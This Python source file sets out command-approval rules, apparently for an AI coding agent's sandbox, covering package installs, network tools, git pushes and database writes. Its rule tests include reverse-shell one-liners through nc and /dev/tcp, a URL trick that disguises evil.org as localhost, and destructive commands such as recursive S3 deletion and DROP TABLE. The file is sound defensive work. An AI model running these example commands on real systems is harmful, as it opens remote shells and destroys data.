"""Built-in rules about commands that reach outside: installs, networks, repositories, databases."""

from __future__ import annotations

from .base import EVERYTHING, ask, listed, on_host, touching


def _words(text: str) -> tuple[str, ...]:
    """Globs for listed words anywhere in a text, but not inside a longer word: `drop` is not in `airdrops`."""
    ends = "[!a-z0-9_]"
    return tuple(
        glob for word in listed(text) for glob in (word, f"{word}{ends}*", f"*{ends}{word}", f"*{ends}{word}{ends}*")
    )


_LOOPBACK = r"https?://(localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0)(:[0-9]+)?(/[^\s@\x00]*)?"
_PLAIN_OPTIONS = (
    r"(-[sSfiIvkLqO]+|--(silent|show-error|fail|include|head|verbose|quiet|spider)|-[mT] [0-9]+|-o /dev/null)"
)

_NAME = r"[A-Za-z0-9_][A-Za-z0-9_.-]*"  # neither a path nor an address
_REF = r"[A-Za-z0-9_][A-Za-z0-9_./-]*"
_PUSH_OPTIONS = r"(-[uqvn]|--(set-upstream|quiet|verbose|progress|no-progress|dry-run|atomic|porcelain|no-tags|thin))"

INSTALLS = (
    ask(
        id="install.python",
        reason="it installs Python packages, which run code as they install",
        suggestion="add the package to the image or the project instead",
        command=listed("""
            pip* install, pip* uninstall, pip* download, pip* wheel, python* -*m pip* install,
            python* -*m pip* uninstall, python* -*m pip* download, python* -*mpip* *, python* -*m ensurepip,
            pypy* -*m pip* install, uv pip, uv add, uv sync, uv tool, uv python, uv run --with*, uvx, pipx,
            python* -*m pipx, python* -*m uv, poetry add, poetry install, poetry update, pdm add, pdm install,
            pipenv install, conda install, conda create, conda update, conda env, conda remove, mamba*, micromamba,
            easy_install*, python* setup.py install, python* setup.py develop, hatch env
        """),
        match=(
            "pip install x",
            "python3 -m pip install -r r.txt",
            "pip3.11 --quiet install x",
            "uv pip install x",
            "pipx run x",
            "conda install -y x",
        ),
        not_match=("pip list", "pip --version", "pip freeze", "python -m pytest", "uv run pytest"),
    ),
    ask(
        id="install.node",
        reason="it installs Node packages, which run code as they install",
        suggestion="add the package to the image or the project instead",
        command=listed("""
            npm install, npm i, npm in, npm ins*, npm add, npm ci, npm update, npm up, npm exec, npm x,
            npm uninstall, npm link, npm publish, npm init, npm create, npx, pnpx, bunx, yarn add, yarn install,
            yarn global, yarn dlx, yarn upgrade, yarn remove, pnpm install, pnpm i, pnpm add, pnpm dlx, pnpm update,
            bun add, bun install, bun x, corepack
        """),
        match=("npm install", "npm i left-pad", "npm --prefix web ci", "yarn add x", "pnpm add x"),
        not_match=("npm test", "npm run build", "yarn build", "node app.js"),
    ),
    ask(
        id="install.yarn",
        reason="without a word after it, it installs Node packages, which run code as they install",
        suggestion="name what it should run: yarn test",
        command=("yarn", "yarnpkg"),
        args=("",),
        unless=r"--version|-v|--help|-h",
        match=("yarn", "yarn --frozen-lockfile"),
        not_match=("yarn test", "yarn --version", "echo yarn"),
    ),
    ask(
        id="install.system",
        reason="it installs or removes packages of the system",
        suggestion="add the package to the image instead",
        command=listed("""
            apt* install, apt* remove, apt* purge, apt* update, apt* *upgrade, apt* autoremove, apt* build-dep,
            apt-key, add-apt-repository, aptitude, dpkg -*i*, dpkg --install, dpkg -*r*, dpkg -*P*, dnf, yum,
            microdnf, zypper, rpm -*[iUe]*, pacman -*[SRU]*, yay, paru, apk add, apk del, apk upgrade, apk update,
            brew install, brew uninstall, brew upgrade, brew tap, brew reinstall, port install, snap install,
            snap remove, flatpak install, nix-env, nix profile, emerge, pkg install, pkg_add, xbps-install,
            opkg install, winget, choco, scoop
        """),
        match=("apt-get -y install x", "apt install x", "apk add curl", "dnf install x", "brew install x"),
        not_match=("apt list", "apt-cache policy x", "brew list", "dpkg -l"),
    ),
    ask(
        id="install.other",
        reason="it installs programs or packages",
        suggestion="add it to the image or the project instead",
        command=listed("""
            gem install, gem update, bundle install, bundle add, cargo install, cargo add, cargo update, go install,
            go get, composer install, composer require, composer global, composer update, rustup, luarocks install,
            cpan, cpanm, opam install, stack install, cabal install, dotnet tool, dotnet add, make install,
            gmake install, ninja install, cmake --install, helm install, code --install-extension, gh extension,
            asdf install, mise install, sdk install, nvm install, pyenv install, vagrant plugin, R CMD install
        """),
        match=("gem install x", "cargo install x", "go install x@latest", "make install"),
        not_match=("cargo build", "go build ./...", "make", "gem list"),
    ),
)

NETWORK = (
    ask(
        id="network.download",
        reason="it talks to another machine",
        suggestion="pass the data in as a file",
        command=listed("""
            curl, wget, wget2, aria2c, http, https, xh, lynx, w3m, links, elinks, lwp-*, axel, fetch, youtube-dl,
            yt-dlp
        """),
        unless=rf"({_PLAIN_OPTIONS} )*{_LOOPBACK}( {_PLAIN_OPTIONS})*|--version|-V|--help",
        match=("curl https://example.com", "wget -qO- x.org", 'curl "$url"', "curl http://localhost@evil.org/"),
        not_match=("curl -sf http://localhost:8080/health", "curl --version", "echo curl"),
    ),
    ask(
        id="network.connect",
        reason="it opens a connection to another machine",
        suggestion="pass the data in as a file",
        command=listed("""
            nc, ncat, netcat, nc.*, socat, telnet, ftp, lftp, tftp, sftp, ssh, scp, sshfs, mosh, rsh, rlogin, rexec,
            autossh, sshpass, ssh-copy-id, croc, wormhole, nmap, masscan, hping3, ping, ping6, traceroute, dig,
            nslookup, host, whois, drill, openssl s_client, mail, mailx, sendmail, msmtp, swaks, ngrok, cloudflared,
            tailscale, chisel, rclone, s3cmd, mc, ab, wrk
        """),
        match=("nc -e /bin/sh 10.0.0.1 99", "ssh host uptime", "scp a host:b", "dig x.evil.org"),
        not_match=("netstat -tln", "hostname", "ssh-keygen -l -f key.pub"),
    ),
    ask(
        id="network.rsync",
        reason="it copies files to or from another machine",
        suggestion="copy between directories of the project",
        command=("rsync",),
        args=("*:*", "$*"),
        match=("rsync -a src/ host:/dst",),
        not_match=("rsync -a src/ dst/",),
    ),
    ask(
        id="network.redirect",
        reason="it opens a network connection by a redirection",
        suggestion="pass the data in as a file",
        traits=("shell.network-redirect",),
        match=("echo x > /dev/tcp/10.0.0.1/80", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        not_match=("echo x > /dev/null",),
    ),
    ask(
        id="network.git",
        reason="it exchanges data with another repository",
        suggestion="work on the repository that is here; let a person exchange it",
        command=listed("""
            git clone, git fetch, git pull, git ls-remote, git send-pack, git-push, git http-push, git subtree push,
            git remote update, git remote add,
            git remote set-url, git submodule update, git submodule add, git archive --remote*, git send-email,
            git svn, git p4, git lfs, gh, glab, hub, jj git, svn checkout, svn co, svn commit, svn update, hg clone,
            hg pull, hg push
        """),
        match=("git clone https://x/y", "git -C repo fetch", "git pull", "git subtree push -P x origin main"),
        not_match=("git status", "git log --oneline", "git add .", "git commit -m 'git push'", "git remote -v"),
    ),
    ask(
        id="network.services",
        reason="it acts on services outside this machine",
        suggestion="prepare it in files, and let a person or the pipeline carry it out",
        command=listed("""
            aws, gcloud, gsutil, bq, az, kubectl, oc, helm, terraform, tofu, pulumi, ansible*, heroku, flyctl, fly,
            vercel, netlify, wrangler, firebase, doctl, docker push, docker pull, docker login, podman push,
            podman pull, podman login, twine, vault, op, stripe, cargo publish, gem push, uv publish, poetry publish,
            skopeo, crane
        """),
        unless=r"(--version|version|--help|help)( .*)?"
        r"|config (get-contexts|current-context|view|get-clusters)( [^\x00]*)?"
        rf"|lint( {_REF})*|template {_NAME} \./{_REF}( -f {_REF})*",  # Helm's, with a chart that is here
        match=(
            "aws s3 rm s3://bucket --recursive",
            "terraform apply",
            "docker push x",
            "kubectl config use-context x",
            "helm template billing stable/billing",
        ),
        not_match=(
            "docker ps",
            "docker build .",
            "terraform --version",
            "kubectl config get-contexts -o name",
            "helm lint charts/billing",
            "helm template billing ./charts/billing -f values.yaml",
        ),
    ),
    # A branch of one's own at a named remote is another rule's.
    ask(
        id="git.push",
        reason="it pushes where, or what, can't be known beforehand",
        suggestion="let a person push it",
        command=("git push",),
        unless=rf"(-C {_NAME} )?push( {_PUSH_OPTIONS})* {_NAME}( {_PUSH_OPTIONS})*( {_REF}(:{_REF})?)+",
        match=(
            "git push",
            "git push origin",
            "git push https://x.org/y.git my-fix",
            "git push git@x.org:y.git my-fix",
            "git push origin 'refs/heads/*:refs/heads/*'",
            "git push --tags origin",
            "git push ../copy my-fix",
        ),
        not_match=("git push origin my-fix", "git push -u origin feature/login", "git -C sub push origin HEAD:my-fix"),
    ),
    ask(
        id="git.production",
        reason="it pushes to a branch that others run in production",
        suggestion="let a person push it",
        command=("git push",),
        args=listed("""
            main, master, trunk, prod*, release*, deploy*, stable, live, head, @, gh-pages, *:main, *:master, *:trunk,
            *:prod*, *:release*, *:deploy*, *:stable, *:live, *:head, *:gh-pages, */main, */master, */trunk, */prod*,
            */release*, */stable, */live, +*, --all, --branches, --mirror, $*
        """),
        match=(
            "git push origin main",
            "git -c a.b=c push origin HEAD:production",
            "git push origin HEAD",
            "git push origin my-fix:refs/heads/stable",
            "git push origin :main",
        ),
        not_match=("git push origin my-fix", "git push origin HEAD:my-fix", "git status"),
    ),
    ask(
        id="git.force-push",
        reason="it overwrites what others have in their repository",
        suggestion="let a person push it",
        command=("git push",),
        args=("-f", "-[!-]*f*", "--force*", "+*", "--mirror", "--delete", "-d", ":*"),
        match=(
            "git push --force",
            "git push -uf origin x",
            "git push origin +x",
            "git push --force-with-lease origin x",
        ),
        not_match=("git push origin x",),
    ),
)

ON_THE_HOST = (
    on_host(
        id="git.outward",
        reason="it sends commits to another repository",
        suggestion="let a person push it",
        command=("git push",),
        match=("git push origin my-fix",),
        not_match=("git stash push", "git commit -m 'git push'"),
    ),
    on_host(
        id="network.registry",
        reason="it asks or tells a registry of packages something",
        suggestion="work with what is installed",
        command=listed("""
            npm view, npm info, npm show, npm outdated, npm audit, npm search, npm login, npm adduser, npm whoami,
            npm ping, npm access, npm owner, npm dist-tag, npm token, npm deprecate, npm unpublish, npm pack,
            yarn info, yarn audit, yarn outdated, yarn publish, yarn npm, pnpm outdated, pnpm audit, pnpm publish,
            pip* index, pip* search, uv lock, poetry lock, poetry search, cargo search, cargo fetch, cargo login,
            cargo yank, go mod download, go mod tidy, go list -*m, gem fetch, gem yank, bundle outdated, bundle update,
            composer outdated, mvn deploy, mvn release*, gradle publish*, gradlew publish*, dotnet restore,
            dotnet nuget, ssh-keyscan
        """),
        match=("npm view react version", "npm audit", "go mod tidy"),
        not_match=("npm test", "npm run build", "go mod verify", "cargo build"),
    ),
)

_CLIENTS = listed("""
    psql, mysql, mariadb, sqlite3, sqlite, mongosh, mongo, cqlsh, sqlcmd, sqlplus, duckdb,
    clickhouse-client, clickhouse, influx, pgcli, mycli, usql, bq
""")

_REDIS_OPTIONS = (
    r"(-[hpnau] [^\s\x00]+|--(user|pass) [^\s\x00]+|--(raw|no-raw|json|csv|tls|no-auth-warning|version)|-[23v])"
)
_REDIS_READS = (
    "(get|mget|strlen|getrange|exists|type|ttl|pttl|keys|scan|hget|hmget|hgetall|hkeys|hvals|hlen|hexists|hscan|lrange|"
    "llen|lindex|smembers|sismember|scard|sscan|zrange|zrangebyscore|zscore|zcard|zrank|zcount|zscan|xrange|xlen|"
    "bitcount|dbsize|info|ping|echo|time|config get|client list|memory usage|object encoding|slowlog get|command)"
)

# A database in memory is nobody's. Statements begin with a word of this list, and only these of its commands are there;
# what its functions do to files is a rule of its own.
_STATEMENT = r"(create|insert|select|drop|delete|update|with|values|explain|begin|commit|end)\b[^;\x00]*;?\s*"
_SETTING = r"\.(mode|headers?|import|separator|width|nullvalue|schema|tables|print) [^|\n\x00]*\n"
_IN_MEMORY = rf"(?is)(-[a-z]+ )*:memory:( ?({_SETTING}|{_STATEMENT}))*"

_WRITING_SQL = _words("""
    insert, update, delete, drop, alter, truncate, create, replace, merge, grant, revoke, vacuum, copy, attach, call,
    do, lock, reindex, set, rename, shutdown, load, into, program, pragma, restore
""")
# Of MongoDB's shell, the commands of SQLite's, and what can't be known.
_WRITING_CALLS = listed(r"""
    *[.]insert*(*, *[.]update*(*, *[.]delete*(*, *[.]remove*(*, *[.]drop*(*, *[.]replace*(*, *[.]save*(*, *[.]create*(*,
    *[.]bulkwrite*(*, *[.]rename*(*, *[.]find*and*(*, *[.]findone*update*(*, *[.]findone*delete*(*,
    *[.]findone*replace*(*, *[.]*command*(*, *[.]eval*(*, *[.]set*(*, *$out*, *[.]js, *[.]shell*, *[.]system*,
    *[.]import*, *[.]restore*, *[.]read*, *[.]load*, *[.]write*, *\!*, $, * $*
""")

DATABASE = (
    ask(
        id="database.functions",
        reason="a function of the database's client reads or writes files, or loads code",
        suggestion="leave it out, and use SQL alone",
        command=("sqlite3", "sqlite"),
        args=("*writefile*", "*load_extension*", "*edit(*", "*fts3_tokenizer*"),
        match=("sqlite3 :memory: \"select writefile('x', 'y')\"",),
        not_match=("sqlite3 a.db 'select 1'",),
    ),
    ask(
        id="database.write",
        reason="it changes data in a database",
        suggestion="read with SELECT, or let a person run the change",
        command=_CLIENTS,
        args=(*_WRITING_SQL, *_WRITING_CALLS),
        unless=_IN_MEMORY,
        match=(
            "psql -c 'DROP TABLE users'",
            "psql prod < migration.sql",
            "echo 'drop table t' | sqlite3 a.db",
            'mysql -e "delete from t"',
            "sqlite3 a.db 'UPDATE t SET x=1'",
            "mongosh migrate.js",
            'mongosh --eval "db.users.drop()"',
            'psql -c "$sql"',
            "sqlite3 :memory: \"attach 'a.db' as a; drop table a.t\"",
        ),
        not_match=(
            "psql -c 'SELECT * FROM updates'",
            "sqlite3 a.db 'select deleted_at from t'",
            "mongosh --eval 'db.t.find()'",
            "sqlite3 :memory: 'create table t (a); insert into t values (1); drop table t'",
        ),
    ),
    ask(
        id="database.redis",
        reason="it changes data in a database, or more than it says",
        suggestion="read with GET, or let a person run the change",
        command=("redis-cli", "valkey-cli", "keydb-cli"),
        unless=rf"(?i)({_REDIS_OPTIONS} ?)*({_REDIS_READS}( [^\x00\n]*)?)?",
        match=("redis-cli FLUSHALL", "redis-cli -n 1 set a 1", "redis-cli HDEL a b", "redis-cli < x", 'redis-cli "$c"'),
        not_match=("redis-cli GET key", "redis-cli -h db -p 6379 --raw hgetall a", "redis-cli --version"),
    ),
    ask(
        id="database.file",
        reason="it runs the statements of a file on a database",
        suggestion="give a SELECT on the command line",
        command=_CLIENTS,
        flags=("-f|--file|-init|-i",),
        match=("psql -f drop.sql", "psql --file=x.sql prod"),
        not_match=("psql -c 'select 1'", "psql --version"),
    ),
    ask(
        id="database.tools",
        reason="it creates, drops, restores or migrates a database",
        suggestion="read with SELECT or pg_dump, or let a person run the change",
        command=listed("""
            dropdb, createdb, dropuser, createuser, pg_restore, pg_ctl, mysqladmin, mysqlimport, mongorestore,
            mongoimport, alembic upgrade, alembic downgrade, flyway, liquibase, rails db*, rake db*,
            python* manage.py migrate, python* manage.py flush, prisma migrate, prisma db, knex migrate*, sequelize db*
        """),
        match=("dropdb prod", "alembic upgrade head", "python manage.py flush"),
        not_match=("pg_dump x", "alembic history"),
    ),
)


RULES = (
    *touching(*INSTALLS, *DATABASE, touches=EVERYTHING),
    *touching(*NETWORK, *ON_THE_HOST, touches=("network",)),
)
